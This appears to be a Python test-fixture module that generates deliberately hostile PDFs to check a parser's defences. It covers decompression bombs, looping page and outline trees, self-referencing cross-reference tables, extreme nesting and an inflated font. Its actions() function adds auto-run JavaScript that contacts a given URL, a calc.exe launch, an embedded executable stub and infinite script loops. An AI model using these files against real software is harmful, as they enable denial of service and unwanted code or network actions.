"""PDFs made to hurt."""

from __future__ import annotations

import zlib
from collections.abc import Sequence

from made.archives import GOOD
from made.zips import ended, flushed

_WORDS = f"BT /F 12 Tf 40 780 Td ({GOOD.strip()}) Tj ET".encode()
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def written(*objects: bytes, root: int = 1, more: bytes = b"") -> bytes:
    """A file of objects, the first of which has the number 1."""
    body, places = bytearray(b"%PDF-1.7\n"), []
    for number, entry in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, entry)
    at = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    body += b"trailer<</Size %d/Root %d 0 R%s>>\n" % (len(objects) + 1, root, more)
    return bytes(body) + b"startxref\n%d\n%%%%EOF\n" % at


def stream(data: bytes, keys: bytes = b"") -> bytes:
    """A stream as it is."""
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (keys, len(data), data)


def bomb(block: bytes, times: int, keys: bytes = b"", before: bytes = b"") -> bytes:
    """A stream that unpacks to a block many times; packed twice, as filters may be chained."""
    once = b"\x78\x9c" + flushed(before) + flushed(block) * times + ended(b"") + b"\0\0\0\0"
    return stream(zlib.compress(once, 9), keys + b"/Filter[/FlateDecode/FlateDecode]")


def page(contents: bytes, keys: bytes = b"", *more: bytes, catalog: bytes = b"") -> bytes:
    """One page with what it shows (4), a font (5), and further objects from 6 on."""
    return written(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/Contents 4 0 R%s>>"
        % (keys or b"/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>>>"),
        contents, _FONT, *more,
    )  # fmt: skip


def tree_loop() -> bytes:
    """A tree of pages that leads back to its root."""
    return written(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R 4 0 R]/Count 1000000>>",
        b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R 4 0 R]/Count 500000>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R/Resources<</Font<</F 6 0 R>>>>>>",
        stream(_WORDS),
        _FONT,
    )


def million_pages() -> bytes:
    """A million pages, of which all are the same."""
    kids = b"3 0 R " * 1000
    return written(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count 1000000>>" % kids,
        b"<</Type/Pages/Parent 2 0 R/Kids[%s]/Count 1000>>" % (b"4 0 R " * 1000),
        b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]>>",
    )


def boasting_pages() -> bytes:
    """One page in a tree that tells of 4,000."""
    return written(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 4000>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        stream(_WORDS), _FONT,
    )  # fmt: skip


def content_bomb() -> bytes:
    """A page whose drawing unpacks to 1 GB."""
    return page(bomb(b"0 0 m 9 9 l S\n" * 70_000, 1000, before=_WORDS + b"\n"))


def object_bomb() -> bytes:
    """An object stream of 1 GB, in which the list of pages should stand."""
    packed = bomb(b" " * 1_000_000, 1000, b"/Type/ObjStm/N 1/First 4", b"2 0 <<>>")
    body = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    at = len(body)
    body += b"3 0 obj\n" + packed + b"\nendobj\n"
    table = len(body)
    rows = b"".join(
        bytes((kind,)) + place.to_bytes(4, "big") + bytes((0,))
        for kind, place in ((0, 0), (1, 9), (2, 3), (1, at), (1, table))
    )
    entry = stream(rows, b"/Type/XRef/Size 5/W[1 4 1]/Root 1 0 R")
    return body + b"4 0 obj\n" + entry + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % table


def huge_page() -> bytes:
    """A page of a thousand million points, which a picture fills."""
    picture = stream(
        b"\0",
        b"/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray",
    )
    box = b"/MediaBox[0 0 1000000000 1000000000]/UserUnit 1000/Resources<</XObject<</I 6 0 R>>>>"
    return page(stream(b"1000000000 0 0 1000000000 0 0 cm /I Do"), box, picture)


def huge_picture() -> bytes:
    """A page that is a picture of 100,000 by 100,000 pixels."""
    keys = b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray"
    box = b"/MediaBox[0 0 595 842]/Resources<</XObject<</I 6 0 R>>>>"
    return page(stream(b"595 0 0 842 0 0 cm /I Do"), box, bomb(b"\xff" * 1_250_000, 1000, keys))


def forms() -> bytes:
    """Drawings that show ten of the next, nine levels deep, and one that shows itself."""
    first, levels = 6, 9
    own = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>/XObject<</X %d 0 R>>>>"
    drawn = [stream(b"/X Do " * 10, own % (first + n + 1)) for n in range(levels)]
    last = stream(b"/X Do " + _WORDS, own % (first + levels))
    keys = b"/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>"
    return page(stream(_WORDS + b" /X Do"), keys, *drawn, last)


def actions(url: str) -> bytes:
    """Scripts, programs and addresses that open with the document, and a file in it."""
    at = url.encode()
    catalog = (
        b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>/AA<</WC<</S/Launch/F(calc.exe)>>>>"
        b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(this.submitForm\\('%s'\\))>>]>>"
        b"/EmbeddedFiles<</Names[(a)<</Type/Filespec/F(run.exe)/EF<</F 7 0 R>>>>]>>>>"
        b"/AcroForm<</XFA 6 0 R/Fields[8 0 R]>>" % (at, at)
    )
    keys = (
        b"/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>>>/AA<</O<</S/URI/URI(%s)>>>>"
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F<</FS/URL/F(%s)>>>>>>"
        b"<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F(%s)>>>>8 0 R]" % (at, at, at)
    )
    xfa = stream(b"<xdp><template><script>xfa.host.gotoURL('%s')</script></template></xdp>" % at)
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(x)/Rect[0 0 90 9]/AA<</C<</S/JavaScript/JS"
        b"(while\\(1\\);)>>/F<</S/JavaScript/JS(while\\(1\\);)>>>>>>"
    )
    return page(stream(_WORDS), keys, xfa, stream(b"MZ"), field, catalog=catalog)


def lying_font() -> bytes:
    """A font whose tables tell of all characters many times over."""
    ranges = b"100 beginbfrange\n" + b"<0000> <FFFF> <0041>\n" * 100 + b"endbfrange\n"
    wide = b"1 beginbfrange\n<0000><FFFF>[" + b"<00410042004300440045>" * 65_536 + b"]endbfrange\n"
    long = b"1 beginbfchar\n<0041> <" + b"0041" * 200_000 + b">\nendbfchar\n"
    table = stream(
        b"/CIDInit /ProcSet findresource begin begincmap\n1 begincodespacerange <0000> <FFFF> "
        b"endcodespacerange\n" + ranges * 50 + wide + long + b"endcmap end"
    )
    font = (
        b"<</Type/Font/Subtype/Type0/BaseFont/Made/Encoding/Identity-H/ToUnicode 6 0 R/DescendantFonts"
        b"[<</Type/Font/Subtype/CIDFontType2/BaseFont/Made/DW 1000/W["
        + b"0 65535 500 " * 5000
        + b"]/CIDToGIDMap/Identity>>]>>"
    )
    keys = b"/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R/G 7 0 R>>>>"
    shown = _WORDS + b" BT /G 12 Tf 40 700 Td <" + b"00410042" * 2000 + b"> Tj ET"
    return page(stream(shown), keys, table, font)


def deep_objects() -> bytes:
    """A list in a list in a list, 100,000 deep, in the page and in what it shows."""
    deep = b"[" * 100_000
    keys = b"/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>>>"
    return page(stream(_WORDS + b"\n" + deep), keys, deep, catalog=b"/Extra 6 0 R")


def outline_loop() -> bytes:
    """Bookmarks that follow and hold each other."""
    marks = (
        b"<</First 7 0 R/Last 7 0 R/Count 9999999>>",
        b"<</Title(Loop)/Parent 6 0 R/Next 8 0 R/First 7 0 R/Last 8 0 R/Dest[3 0 R/Fit]>>",
        b"<</Title(Back)/Parent 6 0 R/Next 7 0 R/First 6 0 R/Last 7 0 R/Dest[3 0 R/Fit]>>",
    )
    return page(stream(_WORDS), b"", *marks, catalog=b"/Outlines 6 0 R")


def table_loop() -> bytes:
    """A table of objects that says that it came before itself."""
    data = page(stream(_WORDS))
    at = data.rindex(b"xref\n0 ")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def much_text() -> bytes:
    """A page of two million letters, packed."""
    keys = b"/MediaBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>>>"
    line = b"BT /F 1 Tf 1 0 0 1 40 400 Tm (" + b"many words " * 9 + b") Tj ET\n"
    return page(bomb(line * 1000, 20, before=_WORDS + b"\n"), keys)


def many_rules(count: int = 40_000) -> bytes:
    """A page of as many lines as a drawing has."""
    lines: Sequence[bytes] = [
        b"%d %d m %d %d l S" % (n * 7 % 595, n * 11 % 842, n * 7 % 595, (n * 11 + 300) % 842)
        if n % 2
        else b"%d %d m %d %d l S" % (n * 7 % 595, n * 11 % 842, (n * 7 + 300) % 595, n * 11 % 842)
        for n in range(count)
    ]
    return page(stream(_WORDS + b"\n" + b"\n".join(lines)))
